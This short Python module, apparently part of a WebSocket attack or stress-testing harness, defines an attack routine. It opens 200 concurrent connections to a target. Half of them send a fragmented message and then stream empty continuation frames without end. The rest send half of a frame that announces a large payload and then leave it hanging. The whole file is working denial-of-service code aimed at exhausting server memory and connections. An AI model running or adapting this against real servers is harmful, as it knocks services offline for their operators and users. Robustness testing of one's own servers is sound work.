"""Sockets send messages of empty parts that never end, and halves of large frames."""

import asyncio

from ..aim import Aim
from ..sockets import socket_of

SOCKETS = 200
_MASK = bytes(4)
_BEGIN, _PART = b"\x01\x80" + _MASK, b"\x00\x80" + _MASK
_HALF = b"\x81\xff" + (100_000).to_bytes(8, "big") + _MASK + bytes(90_000)


async def attack(aim: Aim) -> None:
    async def send(number: int) -> None:
        while True:
            raw = await socket_of(aim)
            if number % 2:
                await raw.write(_HALF)
                await raw.read_on()
                continue
            await raw.write(_BEGIN)
            while await raw.write(1000 * _PART):
                aim.counts["parts"] += 1000

    await asyncio.gather(*map(send, range(SOCKETS)))
